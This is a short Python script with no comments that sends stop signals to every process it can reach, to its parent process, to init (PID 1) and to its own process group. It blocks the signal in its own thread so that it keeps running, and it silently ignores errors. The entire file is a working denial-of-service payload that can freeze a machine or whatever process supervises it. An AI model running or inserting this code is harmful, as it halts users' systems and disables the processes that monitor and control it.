import os
import signal

for target in (-1, os.getppid(), 1, 0):
    try:
        if target in (0, -1):
            signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGTSTP])
        os.kill(target, signal.SIGTSTP if target in (0, -1) else signal.SIGSTOP)
    except OSError:
        pass
